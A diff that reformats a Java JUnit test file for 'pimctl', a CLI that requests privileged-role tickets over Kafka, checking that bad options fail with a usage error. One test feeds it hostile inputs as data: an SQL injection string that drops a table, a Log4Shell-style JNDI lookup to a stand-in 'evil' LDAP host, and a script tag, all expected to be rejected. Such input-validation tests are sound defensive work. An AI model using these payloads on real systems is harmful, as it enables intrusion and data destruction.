@@ -1,13 +1,12 @@
 package dev.pimflow.cli;
 
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
+import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.ArrayList;
 import java.util.List;
-
-import static org.assertj.core.api.Assertions.assertThat;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 /** Bad input is caught before Kafka is touched: exit code 2 and one line on stderr that names the option. */
 class PimctlUsageTest {
@@ -18,8 +17,23 @@ class PimctlUsageTest {
     static final String NO_KAFKA = "--bootstrap-servers=localhost:1";
 
     private static String[] request(String option, String value) {
-        List<String> args = new ArrayList<>(List.of("ticket", "request", "--bootstrap-servers", "localhost:1", "--timeout", "1", "--ticket", "INC-4711",
-                "--principal", PRINCIPAL, "--role", ROLE, "--duration", "PT5H", "--justification", "restore the mailbox"));
+        List<String> args = new ArrayList<>(List.of(
+                "ticket",
+                "request",
+                "--bootstrap-servers",
+                "localhost:1",
+                "--timeout",
+                "1",
+                "--ticket",
+                "INC-4711",
+                "--principal",
+                PRINCIPAL,
+                "--role",
+                ROLE,
+                "--duration",
+                "PT5H",
+                "--justification",
+                "restore the mailbox"));
         int i = args.indexOf(option);
         if (i >= 0) {
             args.set(i + 1, value);
@@ -41,21 +55,23 @@ class PimctlUsageTest {
     }
 
     @ParameterizedTest(name = "{0} {1}")
-    @CsvSource(delimiter = '|', value = {
-            "--principal     | not-a-guid                            | is not a GUID",
-            "--principal     | d9771b4c-5a3f-4b6e-9f1c-2a7e8b0c4d1   | is not a GUID",
-            "--role          | User Administrator                    | is not a GUID",
-            "--duration      | 5h                                    | is not an ISO-8601 duration",
-            "--duration      | PT-5H                                 | must be positive",
-            "--duration      | PT0S                                  | must be positive",
-            "--duration      | P400D                                 | at most 366 days",
-            "--scope         | tenant                                | is not a directory scope id",
-            "--ticket        | '   '                                 | must not be empty",
-            "--event-id      | ''                                    | must not be empty",
-            "--topic         | tickets events                        | is not a Kafka topic name",
-            "--timeout       | 0                                     | between 1 and 600",
-            "--bootstrap-servers | localhost                         | is not host:port",
-    })
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "--principal     | not-a-guid                            | is not a GUID",
+                "--principal     | d9771b4c-5a3f-4b6e-9f1c-2a7e8b0c4d1   | is not a GUID",
+                "--role          | User Administrator                    | is not a GUID",
+                "--duration      | 5h                                    | is not an ISO-8601 duration",
+                "--duration      | PT-5H                                 | must be positive",
+                "--duration      | PT0S                                  | must be positive",
+                "--duration      | P400D                                 | at most 366 days",
+                "--scope         | tenant                                | is not a directory scope id",
+                "--ticket        | '   '                                 | must not be empty",
+                "--event-id      | ''                                    | must not be empty",
+                "--topic         | tickets events                        | is not a Kafka topic name",
+                "--timeout       | 0                                     | between 1 and 600",
+                "--bootstrap-servers | localhost                         | is not host:port",
+            })
     void ticketRequestRejectsBadValuesNamingTheOption(String option, String value, String reason) {
         CliRun run = CliRun.run(request(option, value));
         assertUsageError(run, "'" + option + "'", reason);
@@ -64,18 +80,55 @@ class PimctlUsageTest {
     @Test
     void missingRequiredOptionsAreAUsageError() {
         CliRun run = CliRun.run("ticket", "request", "--ticket", "INC-1");
-        assertUsageError(run, "Missing required options", "--principal", "--role", "--duration", "--justification",
+        assertUsageError(
+                run,
+                "Missing required options",
+                "--principal",
+                "--role",
+                "--duration",
+                "--justification",
                 "pimctl ticket request --help");
     }
 
     @Test
     void whatTheOrchestratorWouldDeadLetterIsRefusedBeforeKafka() {
         // the contract's identifier rules (no quotes, no angle brackets), not only pimctl's own checks
-        assertUsageError(CliRun.run("ticket", "request", "--ticket", "INC-1'; DROP TABLE activation; --", "--principal", PRINCIPAL,
-                "--role", PRINCIPAL, "--duration", "PT1H", "--justification", "x", NO_KAFKA), "'--ticket'", "invalid format");
-        assertUsageError(CliRun.run("ticket", "request", "--ticket", "INC-1", "--principal", PRINCIPAL, "--role", PRINCIPAL,
-                "--duration", "PT1H", "--justification", "see ${jndi:ldap://evil/x}", NO_KAFKA), "'--justification'", "invalid format");
-        assertUsageError(CliRun.run("ticket", "close", "--ticket", "<script>", NO_KAFKA), "'--ticket'", "invalid format");
+        assertUsageError(
+                CliRun.run(
+                        "ticket",
+                        "request",
+                        "--ticket",
+                        "INC-1'; DROP TABLE activation; --",
+                        "--principal",
+                        PRINCIPAL,
+                        "--role",
+                        PRINCIPAL,
+                        "--duration",
+                        "PT1H",
+                        "--justification",
+                        "x",
+                        NO_KAFKA),
+                "'--ticket'",
+                "invalid format");
+        assertUsageError(
+                CliRun.run(
+                        "ticket",
+                        "request",
+                        "--ticket",
+                        "INC-1",
+                        "--principal",
+                        PRINCIPAL,
+                        "--role",
+                        PRINCIPAL,
+                        "--duration",
+                        "PT1H",
+                        "--justification",
+                        "see ${jndi:ldap://evil/x}",
+                        NO_KAFKA),
+                "'--justification'",
+                "invalid format");
+        assertUsageError(
+                CliRun.run("ticket", "close", "--ticket", "<script>", NO_KAFKA), "'--ticket'", "invalid format");
     }
 
     @Test
@@ -93,10 +146,16 @@ class PimctlUsageTest {
 
     @Test
     void mfaAnswerChecksItsInputsBeforeKafka() {
-        assertUsageError(CliRun.run("mfa", "approve", "12345", "--principal", PRINCIPAL, NO_KAFKA), "'<challengeId>'", "is not a GUID");
-        assertUsageError(CliRun.run("mfa", "deny", CHALLENGE, "--principal", "me", NO_KAFKA), "'--principal'", "is not a GUID");
-        assertUsageError(CliRun.run("mfa", "approve", CHALLENGE, "--principal", PRINCIPAL, "--secret", "too-short", NO_KAFKA),
-                "'--secret'", "at least 32 bytes");
+        assertUsageError(
+                CliRun.run("mfa", "approve", "12345", "--principal", PRINCIPAL, NO_KAFKA),
+                "'<challengeId>'",
+                "is not a GUID");
+        assertUsageError(
+                CliRun.run("mfa", "deny", CHALLENGE, "--principal", "me", NO_KAFKA), "'--principal'", "is not a GUID");
+        assertUsageError(
+                CliRun.run("mfa", "approve", CHALLENGE, "--principal", PRINCIPAL, "--secret", "too-short", NO_KAFKA),
+                "'--secret'",
+                "at least 32 bytes");
         assertUsageError(CliRun.run("mfa", "approve", NO_KAFKA), "Missing required parameter", "<challengeId>");
         assertUsageError(CliRun.run("mfa", "pending", "--wait", "-1", NO_KAFKA), "'--wait'");
         assertUsageError(CliRun.run("events", "--wait", "soon", NO_KAFKA), "--wait", "soon");
@@ -104,11 +163,15 @@ class PimctlUsageTest {
 
     @Test
     void helpDocumentsTheExitCodes() {
-        for (String[] args : List.of(new String[]{"--help"}, new String[]{"ticket", "request", "--help"},
-                new String[]{"mfa", "approve", "--help"}, new String[]{"events", "--help"})) {
+        for (String[] args : List.of(
+                new String[] {"--help"},
+                new String[] {"ticket", "request", "--help"},
+                new String[] {"mfa", "approve", "--help"},
+                new String[] {"events", "--help"})) {
             CliRun run = CliRun.run(args);
             assertThat(run.exitCode()).isZero();
-            assertThat(run.out()).contains("Exit codes:")
+            assertThat(run.out())
+                    .contains("Exit codes:")
                     .containsPattern("(?m)^\\s+0\\s+ok")
                     .containsPattern("(?m)^\\s+1\\s+runtime failure")
                     .containsPattern("(?m)^\\s+2\\s+usage error");
@@ -125,15 +188,26 @@ class PimctlUsageTest {
     }
 
     @ParameterizedTest(name = "{0}")
-    @CsvSource({"10, 10000", "10s, 10000", "1.5s, 1500", "500ms, 500", "2m, 120000", "1h, 3600000", "PT1M, 60000", "pt30s, 30000"})
+    @CsvSource({
+        "10, 10000",
+        "10s, 10000",
+        "1.5s, 1500",
+        "500ms, 500",
+        "2m, 120000",
+        "1h, 3600000",
+        "PT1M, 60000",
+        "pt30s, 30000"
+    })
     void durationsAreWrittenForPeople(String text, long millis) {
         assertThat(Inputs.shortDuration(text)).isEqualTo(java.time.Duration.ofMillis(millis));
     }
 
     @Test
     void aBadDurationIsAUsageErrorNamingTheOption() {
-        assertUsageError(CliRun.run("events", "--timeout", "soon", NO_KAFKA), "'--timeout'", "'soon' is not a duration");
-        assertUsageError(CliRun.run("events", "--timeout", "700s", NO_KAFKA), "'--timeout'", "between 1 and 600 seconds");
+        assertUsageError(
+                CliRun.run("events", "--timeout", "soon", NO_KAFKA), "'--timeout'", "'soon' is not a duration");
+        assertUsageError(
+                CliRun.run("events", "--timeout", "700s", NO_KAFKA), "'--timeout'", "between 1 and 600 seconds");
     }
 
     @Test
